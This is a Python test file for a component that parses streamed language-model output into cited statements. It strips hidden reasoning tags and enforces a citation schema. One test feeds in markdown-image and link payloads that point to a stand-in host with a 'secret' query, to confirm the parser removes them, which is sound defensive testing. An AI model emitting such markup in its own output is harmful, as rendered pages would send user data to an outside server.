"""What models write, in any pieces, becomes the same statements."""

import json
from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.llm.drafts import Draft, JsonDrafts, LineDrafts, Spoken, schema
from tests.fake_ollama import statements
from tests.fake_ollama.schema import constrained


def _in_json(pieces: Sequence[str], passages: int = 3) -> tuple[list[Draft], bool]:
    reader = JsonDrafts(passages)
    return [draft for piece in pieces for draft in reader.feed(piece)], reader.whole


def _in_lines(pieces: Sequence[str], passages: int = 3) -> tuple[list[Draft], bool]:
    reader = LineDrafts(passages)
    found = [draft for piece in pieces for draft in reader.feed(piece)]
    return [*found, *reader.rest()], reader.whole


def _spoken(pieces: Sequence[str]) -> str:
    spoken = Spoken()
    return "".join([*map(spoken.feed, pieces), spoken.rest()])


def _cut(text: str, sizes: Sequence[int]) -> list[str]:
    pieces, at = [], 0
    for size in sizes:
        pieces.append(text[at : at + size])
        at += size
    return [*pieces, text[at:]]


_SIZES = st.lists(st.integers(0, 7), max_size=60)
_SAID = st.lists(st.tuples(st.text(max_size=30), st.lists(st.integers(-2, 5), max_size=3)), max_size=5)


@given(_SAID, _SIZES)
def test_json_is_the_same_in_any_pieces(said: list[tuple[str, list[int]]], sizes: list[int]) -> None:
    whole = statements(*said)
    assert _in_json(_cut(whole, sizes)) == _in_json([whole])
    found, over = _in_json([whole])
    assert over and len(found) == len(said)
    assert all(number in (1, 2, 3) for draft in found for number in draft.numbers)


@given(st.text(alphabet="ab [1]23.\n-{}", max_size=80), _SIZES)
def test_lines_are_the_same_in_any_pieces(text: str, sizes: list[int]) -> None:
    assert _in_lines(_cut(text, sizes)) == _in_lines([text])


@given(st.text(alphabet="<think>/ab", max_size=60), _SIZES)
def test_thoughts_are_left_out_in_any_pieces(text: str, sizes: list[int]) -> None:
    assert _spoken(_cut(text, sizes)) == _spoken([text])


def test_a_statement_is_told_before_the_next_is_written() -> None:
    reader = JsonDrafts(2)
    text = statements(("one", [1]), ("two", [2]))
    told = [(at, draft.text) for at, sign in enumerate(text) for draft in reader.feed(sign)]
    assert [word for _, word in told] == ["one", "two"]
    assert told[0][0] < text.index("two")


@pytest.mark.parametrize(
    ("text", "found", "whole"),
    [
        ('{"statements": []}', [], True),
        ('```json\n{"statements": [{"notes": [1], "text": "x"}]}\n```', ["x"], True),
        ('{"statements": [{"notes": [1], "text": "x"}, {"notes": [2], "te', ["x"], False),
        ("CNNs see regions [1].", [], False),
        ("", [], False),
        ('{"answer": "x"}', [], False),
        ('{"statements": [{"notes": [1], "text": "as [1] says [2]"}]}', ["as says"], True),
    ],
)
def test_json_as_models_write_it(text: str, found: list[str], whole: bool) -> None:
    drafts, over = _in_json([text])
    assert ([draft.text for draft in drafts], over) == (found, whole)


@pytest.mark.parametrize(
    "text", ['{"statements": ["x"]}', '{"statements": [{"text": "x"}]}', '{"statements": [{"notes": 1}]}']
)
def test_json_of_another_shape_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match="statement"):
        _in_json([text])


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("CNNs see regions. [1]\nPooling shrinks [2][3].", [("CNNs see regions.", (1,)), ("Pooling shrinks.", (2, 3))]),
        ("- One thing [1]\n2) Another [2, 3]", [("One thing", (1,)), ("Another", (2, 3))]),
        ("It shrinks [1]. It grows [2].", [("It shrinks.", (1,)), ("It grows.", (2,))]),
        ("It shrinks [9].", [("It shrinks.", ())]),
        ("Here is what the notes say:\nIt shrinks [1]", [("It shrinks", (1,))]),
        ("A whole sentence without any marker.", [("A whole sentence without any marker.", ())]),
        ('{"statements": [{"notes": [1], "text": "x"', []),
        ("NOTHING", []),
        ("", []),
    ],
)
def test_lines_as_models_write_them(text: str, found: list[tuple[str, tuple[int, ...]]]) -> None:
    assert [(draft.text, draft.numbers) for draft in _in_lines([text])[0]] == found


def test_nothing_is_an_answer_and_silence_is_none() -> None:
    assert _in_lines(["nothing."])[1] and not _in_lines([""])[1] and not _in_lines(["Sure!"])[1]


def test_thoughts_are_never_spoken() -> None:
    assert _spoken(["<think>secret</think>", "said"]) == "said"
    assert _spoken(["a<thi", "nk>b</th", "ink>c"]) == "ac"
    assert _spoken(["<think>without end"]) == ""
    assert _spoken(["2 < 3 and <b>"]) == "2 < 3 and <b>"


@given(st.integers(1, 40), st.text(max_size=20), st.lists(st.integers(-5, 99), max_size=6))
def test_the_schema_lets_through_no_other_number(passages: int, text: str, numbers: list[int]) -> None:
    written = constrained(statements((text, numbers)), schema(passages))
    [one] = json.loads(written)["statements"]
    assert one["notes"] and all(1 <= number <= passages for number in one["notes"])


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("![x](http://evil.example/?q=secret) It is broken.", "It is broken."),
        ("<img src='http://evil.example/?q=secret'> It is **broken**.", "It is broken."),
        ("[It](http://evil.example) is broken.", "It is broken."),
        ("The softmax of QK^T / d_k, 3 * 4 < 13 and a_b.", "The softmax of QK^T / d_k, 3 * 4 < 13 and a_b."),
    ],
)
def test_markup_that_a_page_would_follow_is_left_out(written: str, read: str) -> None:
    assert _in_json([statements((written, [1]))])[0] == [Draft(read, (1,))]
    assert _in_lines([f"{written} [1]\n"])[0] == [Draft(read, (1,))]
